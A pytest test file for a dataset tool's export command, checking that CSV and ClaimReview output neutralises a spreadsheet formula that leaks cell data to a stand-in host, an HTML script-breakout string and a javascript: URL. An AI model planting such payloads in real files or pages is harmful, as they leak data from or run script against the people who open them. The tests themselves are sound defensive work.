"""`claimset export`: safe by default (no formula injection, no script breakout) and never writes where it must not."""
import errno
import json
import re

import pandas as pd
import pytest
from click.testing import CliRunner

from claimset.cli import cli
from claimset.export import RATING
from claimset.schemas import CLAIM_TYPES, SETTLED_VERDICTS, VERDICTS
from conftest import DATASET, N_STATEMENTS, SOURCE_ID, edit, tree_bytes

STATEMENTS = DATASET / "data/statements/train-00000-of-00001.parquet"
HOSTILE_CLAIM = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
HOSTILE_NOTE = "</script><script>alert('note')</script><!--<script>"


def statements():
    frame = pd.read_parquet(STATEMENTS)
    frame["verdict"] = frame["verdict"].map(dict(enumerate(VERDICTS)))
    return frame


def invoke(*args):
    return CliRunner().invoke(cli, [*map(str, args)])


@pytest.fixture
def hostile(repo):
    """A dataset whose claim starts like a formula and whose verdict note tries to break out of a script."""
    annotations = repo / f"sources/{SOURCE_ID}/annotations.yaml"
    text = annotations.read_text(encoding="utf-8")
    text = re.sub(r'(?m)^(\s+claim: )"Russia agreed to negotiate.*$', lambda m: m.group(1) + json.dumps(HOSTILE_CLAIM),
                  text, count=1)
    annotations.write_text(text, encoding="utf-8")
    verdicts = (repo / "verdicts.yaml").read_text(encoding="utf-8")
    verdicts = re.sub(r"(?m)^    note: >-\n(?:      .*\n)+", lambda m: f"    note: {json.dumps(HOSTILE_NOTE)}\n",
                      verdicts, count=1)
    (repo / "verdicts.yaml").write_text(verdicts, encoding="utf-8")
    result = invoke("build", "--root", repo)
    assert result.exit_code == 0, result.output
    return repo / "dataset"


def test_csv_neutralises_cells_a_spreadsheet_would_run(hostile, tmp_path):
    out = tmp_path / "statements.csv"
    result = invoke("export", hostile, "--format", "csv", "-o", out)
    assert result.exit_code == 0, result.output
    rows = pd.read_csv(out, dtype=str, keep_default_na=False)
    claims = set(rows["claim"])
    assert "'" + HOSTILE_CLAIM in claims and HOSTILE_CLAIM not in claims
    assert not any(cell.startswith(("=", "+", "-", "@")) for column in rows for cell in rows[column])


def test_csv_raw_keeps_values_and_round_trips(hostile, tmp_path):
    out = tmp_path / "statements.csv"
    assert invoke("export", hostile, "--format", "csv", "--raw", "-o", out).exit_code == 0
    assert HOSTILE_CLAIM in set(pd.read_csv(out, dtype=str, keep_default_na=False)["claim"])
    result = invoke("validate", out)
    assert result.exit_code == 0, result.output


def test_claimreview_cannot_close_a_script_block(hostile, tmp_path):
    out = tmp_path / "claimreview.json"
    assert invoke("export", hostile, "--format", "claimreview", "-o", out).exit_code == 0
    text = out.read_text(encoding="utf-8")
    assert "<" not in text and ">" not in text and "&" not in text
    reviews = json.loads(text)
    assert HOSTILE_NOTE in {review["reviewBody"] for review in reviews}
    page = f'<script type="application/ld+json">{text}</script>'
    assert page.count("</script>") == 1 and "<!--" not in page


def test_build_refuses_a_url_that_is_not_http(repo):
    edit(repo / f"sources/{SOURCE_ID}/source.yaml", "url: null", "url: \"javascript:alert('url')\"")
    result = invoke("build", "--root", repo)
    assert result.exit_code == 1
    assert (f"sources/{SOURCE_ID}/source.yaml:6: url \"javascript:alert('url')\" is not an http or https address; "
            "give the page's web address, or null where there is none") in result.output


def test_export_refuses_to_write_into_the_dataset(repo, monkeypatch):
    assert invoke("build", "--root", repo).exit_code == 0
    monkeypatch.chdir(repo)
    before = tree_bytes(repo / "dataset")
    parquet = "dataset/data/statements/train-00000-of-00001.parquet"
    result = invoke("export", "dataset", "--format", "csv", "-o", parquet)
    assert result.exit_code == 2
    assert result.output == (f"Error: refusing to export: {repo / parquet} is inside the dataset being read "
                             f"({repo / 'dataset'}); write elsewhere\n")
    assert tree_bytes(repo / "dataset") == before
    for target in ("speakers.yaml", f"sources/{SOURCE_ID}/text.txt", "sources/new.csv"):
        result = invoke("export", "dataset", "--format", "csv", "-o", target)
        assert result.exit_code == 2 and "claimset's inputs" in result.output, result.output


def test_export_writes_atomically_and_says_why_it_failed(tmp_path, monkeypatch):
    import claimset.files

    out = tmp_path / "statements.csv"
    out.write_text("old content\n", encoding="utf-8")

    def full_disk(fd, *args):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(claimset.files.os, "fsync", full_disk)
    result = invoke("export", DATASET, "--format", "csv", "-o", out)
    assert result.exit_code == 2
    assert result.output == "Error: No space left on device; free some disk space and run it again\n"
    assert out.read_text(encoding="utf-8") == "old content\n"
    assert [p.name for p in tmp_path.iterdir()] == ["statements.csv"]  # no temporary file left


def test_export_to_a_folder_or_a_missing_folder_is_one_line(tmp_path):
    result = invoke("export", DATASET, "--format", "csv", "-o", tmp_path)
    assert result.exit_code == 2
    assert result.output.endswith(f"Error: Invalid value for '-o' / '--output': File '{tmp_path}' is a directory.\n")
    result = invoke("export", DATASET, "--format", "csv", "-o", tmp_path / "missing" / "x.csv")
    assert result.exit_code == 2
    assert result.output.startswith("Error: cannot use ") and "check that the path exists" in result.output
    assert len(result.output.splitlines()) == 1


def test_export_refuses_a_read_only_file(tmp_path):
    out = tmp_path / "statements.csv"
    out.write_text("keep\n", encoding="utf-8")
    out.chmod(0o444)
    result = invoke("export", DATASET, "--format", "csv", "-o", out)
    assert result.exit_code == 2
    assert result.output == (f"Error: refusing to export: {out} is read-only; make it writable (chmod u+w) or "
                             "write elsewhere\n")
    assert out.read_text(encoding="utf-8") == "keep\n"


# --- formats ----------------------------------------------------------------------------------------

def export(*args):
    result = CliRunner().invoke(cli, ["export", *map(str, args)])
    assert "Traceback" not in result.output
    return result


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
def test_table_exports_round_trip_through_validate(tmp_path, fmt):
    out = tmp_path / f"statements.{fmt}"
    result = export(DATASET, "--format", fmt, "-o", out)
    assert result.exit_code == 0, result.output
    check = CliRunner().invoke(cli, ["validate", str(out)])
    assert check.exit_code == 0, check.output
    assert check.output == f"{out}: valid ({N_STATEMENTS} statements).\n"


def test_csv_export_writes_label_names_and_json_lists(tmp_path):
    out = tmp_path / "s.csv"
    export(DATASET, "--format", "csv", "-o", out)
    frame = pd.read_csv(out, keep_default_na=False)
    assert set(frame["claim_type"]) <= set(CLAIM_TYPES)
    assert json.loads(frame.loc[frame["statement_id"] == f"{SOURCE_ID}-s027-1", "evidence"].iloc[0])[0].startswith(
        "The Asahi Shimbun")


def test_jsonl_export_of_speakers(tmp_path):
    out = tmp_path / "speakers.jsonl"
    assert export(DATASET, "--format", "jsonl", "--config", "speakers", "-o", out).exit_code == 0
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [r["speaker_id"] for r in rows][:2] == [f"{SOURCE_ID}-author", "vladimir-putin"]
    assert rows[1]["aliases"] == ["President Vladimir Putin", "President Putin", "Putin"]


def test_claimreview_structure_and_rating_map(tmp_path):
    out = tmp_path / "claimreview.json"
    assert export(DATASET, "--format", "claimreview", "-o", out).exit_code == 0
    reviews = json.loads(out.read_text(encoding="utf-8"))
    df = statements()
    checked = df[df["verdict"] != "not_checked"].set_index("statement_id")
    assert [r["identifier"] for r in reviews] == sorted(checked.index)
    for review in reviews:
        row = checked.loc[review["identifier"]]
        assert review["@context"] == "https://schema.org" and review["@type"] == "ClaimReview"
        assert review["claimReviewed"] == row["claim"]
        assert review["datePublished"] == row["checked_on"].isoformat()
        item = review["itemReviewed"]
        assert item["@type"] == "Claim" and item["text"] == row["quote"]
        assert item["author"]["name"] == row["speaker"]
        assert item["appearance"]["@type"] == "CreativeWork" and item["appearance"]["identifier"] == row["source_id"]
        assert item.get("datePublished", item.get("temporalCoverage")) == row["date"]
        rating = review["reviewRating"]
        assert rating["alternateName"] == row["verdict"]
        if row["verdict"] in SETTLED_VERDICTS:
            assert (rating["ratingValue"], rating["worstRating"], rating["bestRating"]) == (
                RATING[row["verdict"]], 1, 3)
        assert review["citation"] == [f"sources/{e[10:].rsplit('-s', 1)[0]}.html#{e[10:]}"
                                      if e.startswith("statement:") else e for e in row["evidence"]]
    putin = next(r for r in reviews if r["identifier"] == f"{SOURCE_ID}-s027-1")
    assert putin["itemReviewed"]["author"] == {"@type": "Person", "name": "Vladimir Putin",
                                               "sameAs": "https://www.wikidata.org/wiki/Q7747"}
    assert RATING == {"refuted": 1, "mixed": 2, "supported": 3}


def test_claimreview_export_is_deterministic(tmp_path):
    export(DATASET, "--format", "claimreview", "-o", tmp_path / "a.json")
    export(DATASET, "--format", "claimreview", "-o", tmp_path / "b.json")
    assert (tmp_path / "a.json").read_bytes() == (tmp_path / "b.json").read_bytes()


def test_claimreview_needs_the_dataset_folder(tmp_path):
    result = export(STATEMENTS, "--format", "claimreview", "-o", tmp_path / "x.json")
    assert result.exit_code == 2
    assert "ClaimReview needs the dataset folder (statements, speakers and sources)" in result.output


def test_export_refuses_invalid_data(tmp_path):
    df = pd.read_parquet(STATEMENTS)
    df.loc[0, "paragraph"] = 0
    df.to_parquet(tmp_path / "bad.parquet")
    result = export(tmp_path / "bad.parquet", "--format", "csv", "-o", tmp_path / "out.csv")
    assert result.exit_code == 1
    assert f"Error: {tmp_path / 'bad.parquet'} is not valid; fix it (claimset validate" in result.output
    assert not (tmp_path / "out.csv").exists()


def test_export_requires_an_output():
    result = export(DATASET)
    assert result.exit_code == 2
    assert "Missing option '-o' / '--output'" in result.output


@pytest.mark.parametrize("name, fmt", [("statements.csv", "csv"), ("statements.jsonl", "jsonl"),
                                       ("claimreview.json", "claimreview"), ("STATEMENTS.CSV", "csv")])
def test_the_format_follows_the_output_extension(tmp_path, name, fmt):
    inferred = export(DATASET, "-o", tmp_path / name)
    assert inferred.exit_code == 0, inferred.output
    assert inferred.stderr.splitlines()[-1] == f"Wrote {tmp_path / name}."
    explicit = export(DATASET, "--format", fmt, "-o", "-")
    assert (tmp_path / name).read_text(encoding="utf-8") == explicit.stdout


def test_an_explicit_format_wins_over_the_extension(tmp_path):
    assert export(DATASET, "--format", "jsonl", "-o", tmp_path / "rows.json").exit_code == 0
    explicit = export(DATASET, "--format", "jsonl", "-o", "-")
    assert (tmp_path / "rows.json").read_text(encoding="utf-8") == explicit.output


@pytest.mark.parametrize("output, named", [("statements.txt", "'statements.txt'"), ("statements", "'statements'"),
                                           ("-", "standard output")])
def test_a_format_that_cannot_be_inferred_is_a_usage_error(tmp_path, output, named):
    result = export(DATASET, "-o", output if output == "-" else tmp_path / output)
    assert result.exit_code == 2
    assert result.output == (f"Error: cannot tell the format of {named}; pass --format csv, jsonl or claimreview (or "
                             "name the file .csv, .jsonl or .json)\n")
    assert not (tmp_path / output).exists()


# Google's ClaimReview documentation: required ClaimReview properties, and those it recommends.
REQUIRED = {"claimReviewed", "reviewRating", "url"}
RECOMMENDED = {"author", "datePublished", "itemReviewed"}


def test_claimreview_has_every_required_and_recommended_field(tmp_path):
    out = tmp_path / "claims.json"
    result = export(DATASET, "-o", out, "--base-url", "https://example.org/claims")
    assert result.exit_code == 0, result.output
    reviews = json.loads(out.read_text(encoding="utf-8"))
    df = statements().set_index("statement_id")
    assert len(reviews) == int((df["verdict"] != "not_checked").sum())
    for review in reviews:
        assert REQUIRED | RECOMMENDED <= set(review), review["identifier"]
        row = df.loc[review["identifier"]]
        assert review["url"] == f"https://example.org/claims/sources/{row['source_id']}.html#{review['identifier']}"
        assert review["author"] == {"@type": "Organization", "name": "claimset developers",
                                    "url": "https://example.org/claims"}
        rating = review["reviewRating"]
        assert rating["@type"] == "Rating" and ("ratingValue" in rating or rating["alternateName"] == "unverifiable")
        item = review["itemReviewed"]
        assert item["@type"] == "Claim" and item["author"]["name"] and item["appearance"]["name"]
        if re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["date"]):  # a day: Claim.datePublished, as readers use it
            assert item["datePublished"] == row["date"]
    cited = [c for r in reviews for c in r["citation"] if c.startswith("https://example.org/claims/sources/mofa-")]
    assert "https://example.org/claims/sources/mofa-2019-06-29-osaka-summit.html#mofa-2019-06-29-osaka-summit-s006" \
        in cited


def test_claimreview_urls_are_relative_to_the_site_without_a_base_url(tmp_path):
    out = tmp_path / "claims.json"
    result = export(DATASET, "-o", out)
    assert result.exit_code == 0
    assert ("note: ClaimReview urls are relative to the rendered site (sources/<id>.html#<statement>); pass "
            "--base-url with the site's address to make them absolute") in result.output
    review = json.loads(out.read_text(encoding="utf-8"))[0]
    assert review["url"] == f"sources/{review['itemReviewed']['appearance']['identifier']}.html#{review['identifier']}"
    assert "url" not in review["author"]


@pytest.mark.parametrize("args, message", [
    (("--base-url", "ftp://example.org/"), "Error: --base-url 'ftp://example.org/' is not an http or https address; "
                                           "give the rendered site's address, e.g. https://example.org/claims/"),
    (("--base-url", "https://example.org/", "--format", "csv"),
     "Error: --base-url is for ClaimReview only; drop it or export with --format claimreview"),
])
def test_a_bad_base_url_is_a_usage_error(tmp_path, args, message):
    result = export(DATASET, "-o", tmp_path / "claims.json", *args)
    assert result.exit_code == 2
    assert result.output.splitlines()[-1] == message
    assert not (tmp_path / "claims.json").exists()

